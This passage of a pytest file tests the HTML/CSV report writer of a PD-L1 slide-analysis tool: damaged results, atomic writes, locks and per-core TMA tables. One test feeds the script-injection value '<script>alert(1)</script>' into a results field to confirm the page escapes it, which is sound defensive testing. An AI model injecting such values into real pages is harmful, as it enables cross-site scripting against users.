"""``pdl1 report`` over damaged results: the damaged image (or the pairs section) is left out with a warning
naming the file and the fix; the rest is reported."""

import csv
import html
import json
from pathlib import Path

import pytest

from bridge.project import ProjectError
from bridge.report import write_report


def _summary(image: Path) -> dict:
    return {"image": str(image), "mpp": 0.5, "tps_percent": 12.5, "tps_category": "1-49%", "run_id": "r1"}


def test_damaged_summaries_of_plain_slides_are_left_out_and_the_rest_reported(tmp_path, caplog):
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    (out / "b.summary.json").write_text("[]")  # well-formed, not a summary
    (out / "c.summary.json").write_text('{"image": "c.svs",\n')  # a kill mid-write
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(out)
    # report.csv has a row for each, saying why it holds no numbers (it had none: a batch reading the CSV saw two
    # images fewer and no word why).
    rows = list(csv.DictReader(csv_path.open()))
    assert [r["image"] for r in rows] == ["a.svs", "b.summary.json", "c.summary.json"]
    assert rows[0]["left_out"] == "" and rows[0]["tps_percent"] == "12.5"
    assert rows[1]["left_out"].startswith(f"{out / 'b.summary.json'} is not a pdl1 summary (expected a JSON object")
    assert rows[2]["left_out"].startswith(f"{out / 'c.summary.json'} does not read (")
    assert rows[2]["left_out"].endswith(
        f"run the same `pdl1 run SLIDES... --out {out}` with --resume, which analyses "
        "again the slides whose results are damaged"
    )
    assert rows[2]["tps_percent"] == rows[2]["run_id"] == ""
    for name in ("b.summary.json", "c.summary.json"):
        assert f"{out / name} " in caplog.text
    assert "b.summary.json is not a pdl1 summary (expected a JSON object" in caplog.text
    assert "c.summary.json does not read (" in caplog.text
    assert f"run the same `pdl1 run SLIDES... --out {out}` with --resume" in caplog.text
    assert "Left out of this report" in html_path.read_text() and "c.summary.json" in html_path.read_text()


@pytest.mark.parametrize(
    ("field", "value"), [("mpp", "abc"), ("nuclei", "x"), ("tps_percent", "x"), ("details", [1]), ("cps", True)]
)
def test_a_summary_field_of_the_wrong_kind_leaves_that_image_out_with_the_fix(tmp_path, field, value):
    # "mpp": "abc" and "nuclei": "x" stopped the report with a traceback; "tps_percent": "x" went into report.csv.
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    (out / "b.summary.json").write_text(json.dumps({**_summary(tmp_path / "b.svs"), field: value}))
    _, csv_path = write_report(out)
    rows = list(csv.DictReader(csv_path.open()))
    assert [r["tps_percent"] for r in rows] == ["12.5", ""]
    assert rows[1]["left_out"].startswith(
        f"{out / 'b.summary.json'} is not a pdl1 summary (fields of the wrong kind: {field}: {json.dumps(value)})"
    )
    assert "with --resume" in rows[1]["left_out"]


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("targets", [1]),
        ("details", {"review_reasons": ["checked by Dr X"]}),
        ("details", {"domain": "within"}),
        # helper-129: each stopped the report with a TypeError
        ("details", {"domain": {"out_of_domain_score": "high"}}),
        ("details", {"tps_low": "10"}),
    ],
)
def test_a_summary_with_a_list_or_reading_of_the_wrong_kind_inside_is_left_out_with_the_fix(tmp_path, field, value):
    # Each stopped pdl1 report (and pdl1 run --resume, review-queue) with an AttributeError traceback.
    from bridge.project import summary_problem

    summary = {**_summary(tmp_path / "b.svs"), field: value}
    assert summary_problem(summary).startswith("is not a pdl1 summary (fields of the wrong kind: ")
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    (out / "b.summary.json").write_text(json.dumps(summary))
    _, csv_path = write_report(out)
    rows = list(csv.DictReader(csv_path.open()))
    assert [r["tps_percent"] for r in rows] == ["12.5", ""] and "with --resume" in rows[1]["left_out"]


def _project(folder: Path, names: list[str]) -> None:
    images = [
        {"serverBuilder": {"builderType": "uri", "uri": f"file:{folder}/{n}"}, "entryID": i, "imageName": n}
        for i, n in enumerate(names, start=1)
    ]
    folder.mkdir()
    (folder / "project.qpproj").write_text(json.dumps({"version": "0.4.4", "images": images}))


def test_a_truncated_summary_or_pairs_file_of_a_project_leaves_out_only_that_part(tmp_path, caplog):
    project = tmp_path / "project"
    _project(project, ["a.svs", "b.svs"])
    for entry in ("1", "2"):
        (project / "pdl1" / entry).mkdir(parents=True)
    (project / "pdl1" / "1" / "summary.json").write_text(json.dumps(_summary(project / "a.svs")))
    (project / "pdl1" / "2" / "summary.json").write_text('{\n  "e')  # cut short
    (project / "pdl1" / "pairs.json").write_text('{"cases": {\n')
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(project)
    rows = list(csv.DictReader(csv_path.open()))
    assert [(r["image"], r["entry_id"]) for r in rows] == [("a.svs", "1"), ("b.svs", "2")]
    assert rows[1]["left_out"].startswith(f"{project / 'pdl1' / '2' / 'summary.json'} does not read (")
    assert (
        rows[1]["tps_percent"] == ""
        and "<h2>a.svs" in html_path.read_text()
        and "<h2>b.svs" not in html_path.read_text()
    )
    fix = f"`pdl1 run {project} --resume`"
    assert f"{project / 'pdl1' / '2' / 'summary.json'} does not read (" in caplog.text
    assert f"its image is left out of the report; run {fix}, which analyses again" in caplog.text
    assert (
        f"{project / 'pdl1' / 'pairs.json'} does not read" in caplog.text and "compares the cases again" in caplog.text
    )
    assert "H&amp;E vs PD-L1 IHC, per case" not in html_path.read_text()


def test_a_summary_without_details_or_with_a_number_for_its_time_is_reported(tmp_path):
    # helper-129: "details": null, which summaries may hold, and an analysed_at of another kind stopped the report.
    out = tmp_path / "out"
    out.mkdir()
    summary = {**_summary(tmp_path / "a.svs"), "details": None, "provenance": {"analysed_at": 20261206}}
    (out / "a.summary.json").write_text(json.dumps(summary))
    html_path, csv_path = write_report(out)
    (row,) = csv.DictReader(csv_path.open())
    assert row["tps_percent"] == "12.5" and row["analysed_at"] == "20261206" and row["left_out"] == ""
    assert "analysed 20261206" in html_path.read_text()
    assert f"no thumbnail: no image at {tmp_path / 'a.svs'}" in html_path.read_text()  # not "slide not found"


def test_a_case_of_pairs_json_that_does_not_read_costs_its_row_not_the_report(tmp_path, caplog):
    # helper-129: a case with "registration": null, or a Dice that is text, stopped the report.
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    (out / "pdl1").mkdir()
    comparison = {"tps_he_predicted": 10.0, "tps_ihc": 12.0, "dice": 0.8, "entropy_disagree": 0.2, "entropy_agree": 0.1}
    cases = {
        "A": {"comparison": comparison, "registration": {"error_um": 5.0}},
        "B": {"comparison": comparison, "registration": None},
        "C": {"comparison": {**comparison, "dice": "0.8"}, "registration": {"error_um": 5.0}},
        "D": {"why_not_compared": "no IHC"},
    }
    (out / "pdl1" / "pairs.json").write_text(json.dumps({"cases": cases}))
    with caplog.at_level("WARNING", logger="bridge.report"):
        page = write_report(out)[0].read_text()
    assert "<tr><td>A</td><td>10.0</td><td>12.0</td><td>0.800</td><td>5.0</td>" in page
    assert "<td colspan='6'>no IHC</td>" in page and "<tr><td>B</td>" not in page and "<tr><td>C</td>" not in page
    assert f"{out / 'pdl1' / 'pairs.json'}: case 'B' does not read (TypeError(" in caplog.text
    assert f"{out / 'pdl1' / 'pairs.json'}: case 'C' does not read (ValueError(" in caplog.text


def test_text_where_a_number_belongs_is_shown_as_text_not_markup_and_costs_no_report(tmp_path):
    # A registration error in pairs.json given as text went into the page as markup; a target's tumour cells given
    # as text stopped the whole report (TypeError comparing it with 100).
    out = tmp_path / "out"
    out.mkdir()
    target = {"image": "a.svs", "entry_id": None, "target": "A-1", "target_type": "TMA core", "state": "analysed"}
    target["tumour_cells"] = "<b>many</b>"
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs") | {"targets": [target, target]}))
    (out / "pdl1").mkdir()
    comparison = {"tps_he_predicted": 10.0, "tps_ihc": 12.0, "dice": 0.8, "entropy_disagree": 0.2, "entropy_agree": 0.1}
    cases = {"A": {"comparison": comparison, "registration": {"error_um": "<script>alert(1)</script>"}}}
    (out / "pdl1" / "pairs.json").write_text(json.dumps({"cases": cases}))
    page = write_report(out)[0].read_text()
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>many</b>" not in page and "&lt;b&gt;many&lt;/b&gt;" in page


@pytest.mark.parametrize("content", ["[]", '{"cases": [1]}', '{"cases": {"c1": "x"}}'])
def test_a_pairs_file_of_the_wrong_shape_is_left_out(tmp_path, caplog, content):
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    (out / "pdl1").mkdir()
    (out / "pdl1" / "pairs.json").write_text(content)
    with caplog.at_level("WARNING", logger="bridge.report"):
        write_report(out)
    assert "pairs.json" in caplog.text and "comparison is left out of the report" in caplog.text


def test_a_slide_no_longer_where_it_was_analysed_is_named_with_its_path(tmp_path, caplog):
    """Results copied to another machine, or slides moved: the report said nothing but "slide not found: no
    thumbnail" inside the HTML, without the path it looked at."""
    out = tmp_path / "out"
    out.mkdir()
    gone = tmp_path / "moved" / "a.svs"
    (out / "a.summary.json").write_text(json.dumps(_summary(gone)))
    with caplog.at_level("WARNING", logger="bridge.report"):
        _, csv_path = write_report(out)
    assert csv_path.read_text().splitlines()[1].startswith("a.svs,")  # its numbers are still reported
    assert f"a.svs: no thumbnail: no image at {gone}, where it was analysed" in caplog.text


def test_an_entry_whose_uri_is_not_a_file_costs_its_thumbnail_not_the_report(tmp_path, caplog):
    """An entry pointing at a server (https, OMERO) stopped the whole report with "error: only file: image URIs can
    be analysed", naming no entry."""
    project = tmp_path / "project"
    _project(project, ["a.svs", "b.svs"])
    qpproj = json.loads((project / "project.qpproj").read_text())
    qpproj["images"][1]["serverBuilder"]["uri"] = "https://example.org/b.svs"
    (project / "project.qpproj").write_text(json.dumps(qpproj))
    for entry, name in (("1", "a.svs"), ("2", "b.svs")):
        (project / "pdl1" / entry).mkdir(parents=True)
        (project / "pdl1" / entry / "summary.json").write_text(json.dumps(_summary(project / name)))
    with caplog.at_level("WARNING", logger="bridge.report"):
        _, csv_path = write_report(project)
    assert [r.split(",")[0] for r in csv_path.read_text().splitlines()[1:]] == ["a.svs", "b.svs"]
    assert "b.svs: no thumbnail: image of entry 2 (b.svs): only file: image URIs can be analysed" in caplog.text


def test_an_interrupted_report_leaves_the_earlier_one_whole(tmp_path, monkeypatch):
    # report.csv was written in place: an interrupt (or an image name the Windows code page cannot encode) left
    # a table cut short that still read as complete.
    import csv

    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    written = write_report(out)
    before = {path: path.read_bytes() for path in written}

    def interrupted(self, rows):
        raise KeyboardInterrupt

    monkeypatch.setattr(csv.DictWriter, "writerows", interrupted)
    (out / "b.summary.json").write_text(json.dumps(_summary(tmp_path / "b.svs")))
    with pytest.raises(KeyboardInterrupt):
        write_report(out)
    assert {path: path.read_bytes() for path in before} == before
    assert not [p for p in out.rglob("*") if p.name.endswith(".part")]


def test_results_of_an_image_the_last_run_failed_on_are_reported_as_an_earlier_runs(tmp_path, caplog):
    # A re-run that fails on an image keeps its earlier results (and the project its objects); the report showed
    # them as if the last run had made them, without a word of the failure status.json records.
    import csv

    project = tmp_path / "project"
    _project(project, ["a.svs", "b.svs"])
    for entry, name in (("1", "a.svs"), ("2", "b.svs")):
        (project / "pdl1" / entry).mkdir(parents=True)
        target = {"image": name, "entry_id": entry, "target": "whole image", "target_type": "whole image"}
        summary = _summary(project / name) | {"targets": [target | {"state": "analysed", "tps_percent": 12.5}]}
        (project / "pdl1" / entry / "summary.json").write_text(json.dumps(summary))
    error = "b.svs: slide not found"
    status = {"images": {"1": {"state": "done", "run_id": "r2"}, "2": {"state": "failed", "error": error}}}
    (project / "pdl1" / "status.json").write_text(json.dumps(status))
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(project)
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert [(r["image"], r["last_run_failed"]) for r in rows] == [("a.svs", ""), ("b.svs", error)]
    # The report's targets.csv says so too (it had no such column: b's rows read as the last run's).
    targets = list(csv.DictReader((csv_path.parent / "targets.csv").open(encoding="utf-8")))
    assert [(r["image"], r["tps_percent"], r["last_run_failed"]) for r in targets] == [
        ("a.svs", "12.5", ""),
        ("b.svs", "12.5", error),
    ]
    assert "failed on this image: b.svs: slide not found; the results below are an earlier run's (run r1)" in (
        html_path.read_text()
    )
    assert f"b.svs: the last run failed on it ({error}); the results reported are an earlier run's" in caplog.text

    (project / "pdl1" / "status.json").write_text('{"images": {')  # cut short: the report is still written
    caplog.clear()
    with caplog.at_level("WARNING", logger="bridge.report"):
        _, csv_path = write_report(project)
    assert [r["last_run_failed"] for r in csv.DictReader(csv_path.open(encoding="utf-8"))] == ["", ""]
    assert "unreadable run status" in caplog.text and "cannot tell which images the last run failed on" in caplog.text


def test_results_of_another_file_than_the_entrys_now_are_said_to_be_and_not_drawn_over_it(tmp_path, caplog):
    # The entry was pointed at another file since its run (Project > Set image URI): the report showed the first
    # file's TPS and drew its regions over the new file's thumbnail, under the entry's new name.
    project = tmp_path / "project"
    _project(project, ["a.svs", "b.svs"])
    for entry, analysed in (("1", "a.svs"), ("2", "old_b.svs")):
        (project / "pdl1" / entry).mkdir(parents=True)
        (project / "pdl1" / entry / "summary.json").write_text(json.dumps(_summary(project / analysed)))
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, _ = write_report(project)
    said = "the results are of old_b.svs, analysed before the entry was pointed at b.svs; run `pdl1 run"
    assert f"b.svs: {said}" in caplog.text and "a.svs: the results" not in caplog.text
    assert html.escape(said) in html_path.read_text()


def test_an_image_the_last_run_failed_on_without_earlier_results_is_named_not_passed_over(tmp_path, caplog):
    # A corrupt slide in a batch: the others finished, the report showed them and said nothing of the one that
    # failed, so "9 of 9 images" read as the whole project.
    project = tmp_path / "project"
    _project(project, ["a.svs", "b.svs"])
    (project / "pdl1" / "1").mkdir(parents=True)
    (project / "pdl1" / "1" / "summary.json").write_text(json.dumps(_summary(project / "a.svs")))
    error = "b.svs: the file looks damaged or truncated"
    status = {"images": {"1": {"state": "done"}, "2": {"state": "failed", "error": error, "image": "b.svs"}}}
    (project / "pdl1" / "status.json").write_text(json.dumps(status))
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(project)
    said = (
        f"b.svs (QuPath entry 2): the last run failed on it ({error}) and it has no earlier results, so this report "
        f"has no results for it; fix the cause and run `pdl1 run {project} --resume`"
    )
    assert said in caplog.text and html.escape(said) in html_path.read_text()
    # report.csv had no row for it, so a lab's script counting its rows took 1 of 1 images for the whole project:
    # now its row has the error in last_run_failed (the CSV's status column) and every number empty.
    import csv

    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert [(r["image"], r["entry_id"], r["last_run_failed"]) for r in rows] == [
        ("a.svs", "1", ""),
        ("b.svs", "2", error),
    ]
    assert {k for k, v in rows[1].items() if v} == {"image", "entry_id", "last_run_failed"}
    assert rows[0]["tps_percent"] == "12.5" and rows[0]["uncertainty_flag"] == "0"
    assert html_path.read_text().count("<section><h2>") == 1  # no section of numbers for b.svs: named above


def test_plain_slides_the_last_run_failed_on_are_named_with_or_without_earlier_results(tmp_path, caplog):
    import csv

    out = tmp_path / "out"
    (out / "pdl1").mkdir(parents=True)
    for stem in ("a", "b"):
        (out / f"{stem}.summary.json").write_text(json.dumps(_summary(tmp_path / f"{stem}.svs")))
    images = {
        "a": {"state": "done", "image": "a.svs"},
        "b": {"state": "failed", "error": "b.svs: slide not found", "image": "b.svs"},
        "c": {"state": "failed", "error": "c.svs: no microns per pixel", "image": "c.svs"},
    }
    (out / "pdl1" / "status.json").write_text(json.dumps({"images": images}))
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(out)
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert [(r["image"], r["last_run_failed"], r["run_id"]) for r in rows] == [
        ("a.svs", "", "r1"),
        ("b.svs", "b.svs: slide not found", "r1"),  # an earlier run's results
        ("c.svs", "c.svs: no microns per pixel", ""),  # none: a row with the error alone
    ]
    assert "b.svs: the last run failed on it (b.svs: slide not found); the results reported are an earlier" in (
        caplog.text
    )
    assert "c.svs: the last run failed on it (c.svs: no microns per pixel) and it has no earlier results" in (
        html_path.read_text()
    )
    (out / "a.summary.json").unlink()
    (out / "b.summary.json").unlink()
    with pytest.raises(ProjectError, match=r"no results under .*; c\.svs: the last run failed on it \(c\.svs: no"):
        write_report(out)


def test_two_entries_sharing_an_image_name_keep_their_own_thumbnail_row_and_reason_numbers(tmp_path):
    # QuPath lets two entries share an image name (one file typed H&E and H-DAB, or 1.svs of two cases): the second
    # thumbnail replaced the first, the rows could not be told apart, and one decimal showed a segmentation
    # uncertainty of 0.0932 over its limit 0.0873 as "0.1, limit 0.1".
    import csv

    import numpy as np
    import tifffile

    project = tmp_path / "project"
    _project(project, ["a.tif", "a.tif"])
    rgb = np.full((64, 64, 3), 235, np.uint8)
    tifffile.imwrite(project / "a.tif", rgb)
    reasons = [{"reason": "segmentation uncertainty", "value": 0.0932, "limit": 0.0873}]
    for entry in ("1", "2"):
        (project / "pdl1" / entry).mkdir(parents=True)
        summary = _summary(project / "a.tif") | {"details": {"review_reasons": reasons}}
        (project / "pdl1" / entry / "summary.json").write_text(json.dumps(summary))
        (project / "pdl1" / entry / "objects.geojson").write_text('{"type": "FeatureCollection", "features": []}')
    html_path, csv_path = write_report(project)
    rows = list(csv.DictReader(csv_path.open(encoding="utf-8")))
    assert [(r["image"], r["entry_id"]) for r in rows] == [("a.tif", "1"), ("a.tif", "2")]
    assert rows[0]["review_reasons"] == "segmentation uncertainty (0.0932, limit 0.0873)"
    page = html_path.read_text()
    assert sorted(p.name for p in html_path.parent.glob("*.jpg")) == ["1-a.jpg", "2-a.jpg"]
    assert 'src="1-a.jpg"' in page and 'src="2-a.jpg"' in page and "a.tif (QuPath entry 2)" in page


def test_the_thumbnail_draws_each_uncertainty_tile_by_its_outline(tmp_path):
    # A tile trimmed to the analysed ROI is a polygon, in parts where the ROI cuts its cell in two; each is drawn
    # as it is, not as its bounding box (which reaches outside the ROI).
    import uuid

    import numpy as np
    import tifffile
    from PIL import Image
    from shapely.geometry import MultiPolygon, box, mapping

    project = tmp_path / "project"
    _project(project, ["a.tif", "a.tif"])
    tifffile.imwrite(project / "a.tif", np.full((64, 64, 3), 235, np.uint8))
    tiles = [box(0, 0, 32, 32), MultiPolygon([box(32, 0, 40, 32), box(56, 0, 64, 32)])]
    features = [
        {
            "type": "Feature",
            "id": str(uuid.uuid4()),
            "geometry": mapping(g),
            "properties": {
                "objectType": "tile",
                "name": "PD-L1 uncertainty",
                "measurements": {"Predictive entropy": 0.6},
            },
        }
        for g in tiles
    ]
    for entry, drawn in (("1", features), ("2", [])):
        (project / "pdl1" / entry).mkdir(parents=True)
        (project / "pdl1" / entry / "summary.json").write_text(json.dumps(_summary(project / "a.tif")))
        collection = {"type": "FeatureCollection", "features": drawn}
        (project / "pdl1" / entry / "objects.geojson").write_text(json.dumps(collection))
    html_path, _ = write_report(project)
    with_tiles, plain = (np.asarray(Image.open(html_path.parent / f"{e}-a.jpg").convert("RGB"), float) for e in "12")
    changed = np.abs(with_tiles - plain).sum(axis=2) > 30
    assert changed.shape == (64, 64)  # one thumbnail px per image px here
    assert changed[4:28, 2:36].mean() > 0.9  # the whole cell, and the trimmed tile's left part
    assert changed[4:28, 42:54].mean() < 0.1  # the gap between the trimmed tile's parts
    assert changed[4:28, 57:60].mean() > 0.9  # its right part
    assert changed[36:, :56].mean() < 0.1  # no tile


def _analysed_tif_project(tmp_path) -> Path:
    """A project of two small TIFFs, a.tif and b.tif (entries 1 and 2), each with a summary and an empty GeoJSON."""
    import numpy as np
    import tifffile

    project = tmp_path / "project"
    _project(project, ["a.tif", "b.tif"])
    for entry, name in (("1", "a.tif"), ("2", "b.tif")):
        tifffile.imwrite(project / name, np.full((64, 64, 3), 235, np.uint8))
        (project / "pdl1" / entry).mkdir(parents=True)
        (project / "pdl1" / entry / "summary.json").write_text(json.dumps(_summary(project / name)))
        (project / "pdl1" / entry / "objects.geojson").write_text('{"type": "FeatureCollection", "features": []}')
    return project


def test_an_entry_image_that_moved_is_told_a_fix_pdl1_report_has(tmp_path, caplog):
    # pdl1 report has no --search-dir, and was told "pass --search-dir with a folder that holds it".
    project = _analysed_tif_project(tmp_path)
    (project / "a.tif").unlink()
    with caplog.at_level("WARNING", logger="bridge.report"):
        write_report(project)
    (said,) = [r.getMessage() for r in caplog.records if r.getMessage().startswith("a.tif: no thumbnail")]
    assert "image of entry 1 (a.tif) has moved: not at " in said
    assert (
        "; point the entry at the image in QuPath (File > Project... > Check project URIs) and save the project, or "
        "put the image back where the project says, then run pdl1 report again; its numbers are reported"
    ) in said, said
    assert "--search-dir" not in said


def test_an_entry_image_a_run_found_elsewhere_is_drawn_from_the_file_it_analysed(tmp_path, caplog):
    # helper-155: `pdl1 run --search-dir` found a moved image; the report, which has no --search-dir, lost every
    # such image's thumbnail, warning to pass one.
    project = _analysed_tif_project(tmp_path)
    elsewhere = tmp_path / "scans" / "a.tif"
    elsewhere.parent.mkdir()
    (project / "a.tif").rename(elsewhere)
    summary = project / "pdl1" / "1" / "summary.json"
    summary.write_text(json.dumps(_summary(elsewhere)))  # as pdl1 run --search-dir records it
    with caplog.at_level("WARNING", logger="bridge.report"):
        write_report(project)
    assert "no thumbnail" not in caplog.text, caplog.text
    assert sorted(p.name for p in (project / "pdl1" / "report").glob("*.jpg")) == ["1-a.jpg", "2-b.jpg"]
    elsewhere.unlink()  # gone from there too: told as before
    with caplog.at_level("WARNING", logger="bridge.report"):
        write_report(project)
    assert "a.tif: no thumbnail: image of entry 1 (a.tif) has moved" in caplog.text


@pytest.mark.parametrize("damage", ["cut short", "missing"])
def test_a_geojson_that_does_not_read_is_named_with_the_fix_and_the_numbers_reported(tmp_path, caplog, damage):
    # Was "a.tif: no thumbnail (Invalid control character at: line 1 column 36 (char 35))", naming no file nor fix.

    project = _analysed_tif_project(tmp_path)
    geojson = project / "pdl1" / "1" / "objects.geojson"
    if damage == "missing":
        geojson.unlink()
    else:
        geojson.write_text('{"type": "FeatureCollection", "feat')
    with caplog.at_level("WARNING", logger="bridge.report"):
        html_path, csv_path = write_report(project)
    assert [r.split(",")[0] for r in csv_path.read_text().splitlines()[1:]] == ["a.tif", "b.tif"]
    assert f"a.tif: no thumbnail ({geojson} does not read (" in caplog.text
    assert "run the image again (`pdl1 run` with --resume analyses again an image whose results do not read)" in (
        caplog.text
    )
    assert sorted(p.name for p in html_path.parent.glob("*.jpg")) == ["2-b.jpg"]


def test_the_report_says_its_progress_image_by_image(tmp_path):
    # A report draws each image's thumbnail from its slide (seconds each on a real one) and said nothing till the end.
    out = tmp_path / "out"
    out.mkdir()
    for name in ("a", "b"):
        (out / f"{name}.summary.json").write_text(json.dumps(_summary(tmp_path / f"{name}.svs")))
    said: list[tuple[int, int]] = []
    write_report(out, on_progress=lambda done, total: said.append((done, total)))
    assert said == [(0, 2), (1, 2), (2, 2)]


def _lock(folder: Path, pid: int) -> Path:
    import socket

    from bridge.run_lock import OUTPUT_LOCK_FILE

    lock = folder / OUTPUT_LOCK_FILE
    lock.write_text(json.dumps({"pid": pid, "host": socket.gethostname(), "started": "2024-01-01 00:00:00"}))
    return lock


def _dead_pid() -> int:
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    return int(done.stdout)


def test_the_staged_files_a_killed_report_left_are_removed_by_the_next_and_no_others(tmp_path, caplog):
    # A report killed while writing left report.html.<hex>.part and its thumbnails' .part files in pdl1/report
    # for good: pdl1 run leaves that folder to pdl1 report, which removed none.
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    report = out / "pdl1" / "report"
    report.mkdir(parents=True)
    ours = [
        report / "report.html.0123456789ab.part",
        report / "report.csv.ba9876543210.part",
        report / "a.png.a1b2c3d4e5f6.part",
        report / "targets.csv.0123456789ab.part",
    ]
    others = [
        report / "notes.txt.0123456789ab.part",  # not a file a report writes
        report / "report.html.part",  # not bridge.atomic's name
        report / "report.html.0123456789AB.part",
        report / "old" / "report.html.0123456789ab.part",  # not beside the report's files
    ]
    _lock(report, _dead_pid())  # and the lock of the killed report
    for path in ours + others:
        path.parent.mkdir(exist_ok=True)
        path.write_text("staged")
    with caplog.at_level("WARNING", logger="bridge.run_lock"):
        html_path, _ = write_report(out)
    assert html_path.is_file() and not any(p.exists() for p in ours) and all(p.exists() for p in others)
    assert f"removed 4 unfinished file(s) an interrupted one left (first: {ours[2]})" in caplog.text
    assert sorted(p.name for p in report.iterdir()) == sorted(
        [".pdl1-report", "old", "report.csv", "report.html", "targets.csv", *(p.name for p in others[:3])]
    )


def test_a_report_another_report_is_writing_is_refused_and_its_staged_files_left(tmp_path):
    import os

    out = tmp_path / "out"
    out.mkdir()
    (out / "a.summary.json").write_text(json.dumps(_summary(tmp_path / "a.svs")))
    report = tmp_path / "elsewhere"
    report.mkdir()
    staged = report / "report.html.0123456789ab.part"
    staged.write_text("being written")
    lock = _lock(report, os.getpid())  # a live process
    with pytest.raises(ProjectError, match=rf"{report}: another pdl1 report is writing here \(pid {os.getpid()} on "):
        write_report(out, report)
    assert staged.read_text() == "being written" and lock.is_file() and not (report / "report.html").exists()
    lock.unlink()
    write_report(out, report)
    assert not staged.exists() and not (report / lock.name).exists() and (report / "report.html").is_file()


def _core(name: str, state: str = "analysed", **numbers) -> dict:
    """A target as summary.json lists it (bridge.targets.rows_to_json)."""
    return {
        "image": "tma.tif",
        "entry_id": "1",
        "target": name,
        "target_type": "TMA core",
        "state": state,
        "stain": None if state == "missing" else "H&E",
        "tps_percent": None,
        "tps_category": None,
        "tumour_cells": None,
        "cps_percent": None,
        "needs_review": None if state == "missing" else False,
        "review_reasons": [],
        **numbers,
    }


def _tma_project(tmp_path: Path, targets: list[dict], **summary) -> Path:
    """A project of one 160 x 160 px image whose summary lists ``targets``."""
    import numpy as np
    import tifffile

    tmp_path.mkdir(exist_ok=True)
    project = tmp_path / "project"
    _project(project, ["tma.tif"])
    tifffile.imwrite(project / "tma.tif", np.full((160, 160, 3), 235, np.uint8))
    (project / "pdl1" / "1").mkdir(parents=True)
    data = _summary(project / "tma.tif") | {"targets": targets, **summary}
    (project / "pdl1" / "1" / "summary.json").write_text(json.dumps(data))
    (project / "pdl1" / "1" / "objects.geojson").write_text('{"type": "FeatureCollection", "features": []}')
    return project


def test_a_summary_whose_provenance_is_not_an_object_is_reported_without_its_models_not_a_crash(tmp_path):
    # A hand-edited summary.json ("provenance": "n/a") stopped the whole report with an AttributeError.
    import csv

    project = _tma_project(tmp_path, [], provenance="n/a")
    html_path, csv_path = write_report(project)
    (row,) = csv.DictReader(csv_path.open(encoding="utf-8"))
    assert (row["image"], row["analysed_at"], row["models"]) == ("tma.tif", "", "")
    assert "<tr><th>Models</th><td>n/a</td></tr>" in html_path.read_text()


def _section_table(page: str) -> list[str]:
    """The rows of the per-target table, tags and all."""
    table = page.split("<table class='targets'>", 1)[1].split("</table>", 1)[0]
    return table.split("</tr>")[1:-1]  # without the header


def test_an_image_of_several_tma_cores_gets_a_row_per_core_in_grid_order_with_those_to_look_at_marked(tmp_path):
    # The report showed one TPS for a whole TMA: the cores a pathologist must look at (flagged, too few tumour cells,
    # missing) were nowhere in it, only in pdl1/targets.csv.
    import csv

    from shapely.geometry import box, mapping

    few = "insufficient tumour cells"
    targets = [
        _core("A-1", tps_percent=12.0, tps_category="1-49%", tumour_cells=250, outline=mapping(box(10, 20, 60, 70))),
        _core("A-2", "missing", outline=mapping(box(90, 20, 140, 70))),
        _core(
            "B-1",
            tps_percent=60.0,
            tps_category=few,
            tumour_cells=40,
            needs_review=True,
            review_reasons=[f"{few} (40, limit 100)"],
            outline=mapping(box(10, 100, 60, 150)),
        ),
        _core("B-2", tps_percent=55.5, tps_category=">=50%", tumour_cells=300, outline=mapping(box(90, 100, 140, 150))),
    ]
    # The image's TPS is over both analysed cores' cells; its reasons are A-1's (summary.json's rule).
    project = _tma_project(
        tmp_path,
        targets,
        tps_percent=51.2,
        tps_category=">=50%",
        uncertainty_flag=True,
        details={"review_reasons": [{"reason": "A-1's own reason"}], "tps_low": 10.0, "tps_high": 14.0},
    )
    html_path, csv_path = write_report(project)
    page = html_path.read_text()
    assert "Per target: 4 TMA cores (3 analysed, 1 missing), in the grid's order" in page
    assert (
        "To look at: <b>needs review (1)</b>: B-1; <b>under 100 tumour cells (1)</b>: B-1; "
        "<b>missing, not analysed (1)</b>: A-2." in page
    )
    rows = _section_table(page)
    assert [r.split("<td>", 2)[1].split("</td>")[0] for r in rows] == ["A-1", "A-2", "B-1", "B-2"]
    assert rows[0] == "<tr><td>A-1</td><td>12.0</td><td>1-49%</td><td>250</td><td>ok</td>"
    assert rows[1] == (
        "<tr class='missing'><td>A-2</td><td colspan='4'>missing: marked missing in QuPath, not analysed</td>"
    )
    assert rows[2] == (
        f"<tr class='review'><td>B-1</td><td>60.0</td><td>{few}</td><td class='few'>40 <b>(under 100)</b></td>"
        f"<td><b>review</b>: {few} (40, limit 100)</td>"
    )
    # Numbers of the first core are not passed off as the image's: the TPS is over the cores, the rest says whose.
    assert "51.2% (&gt;=50%; over the 3 analysed TMA cores, from their summed tumour cells)" in page
    assert "members 10.0-14.0%" not in page and "A-1's own reason" not in page
    assert "1 of 3 analysed TMA cores need review" in page
    # The positive area, SUA count and nuclei add up over the targets in summary.json: the image's, unmarked; the
